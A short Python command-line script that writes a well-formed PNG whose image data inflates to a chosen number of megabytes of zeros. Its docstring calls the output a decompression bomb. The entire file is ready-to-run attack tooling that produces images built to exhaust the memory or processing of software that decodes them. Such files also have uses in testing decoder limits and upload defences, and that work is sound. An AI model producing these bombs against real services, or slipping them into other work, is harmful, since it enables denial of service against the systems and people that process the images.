"""Writes a well-formed 10x6 RGB PNG whose image data inflates to SIZE_MB
megabytes of zeros (a decompression bomb: the header takes 186 bytes).
Usage: png_bomb.py OUT SIZE_MB
"""
import struct
import sys
import zlib


def chunk(kind, data):
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


out, size_mb = sys.argv[1], int(sys.argv[2])
ihdr = struct.pack(">IIBBBBB", 10, 6, 8, 2, 0, 0, 0)
z = zlib.compressobj(9)
data = b"".join(z.compress(b"\0" * (1 << 20)) for _ in range(size_mb)) + z.flush()
with open(out, "wb") as f:
    f.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", data) +
            chunk(b"IEND", b""))
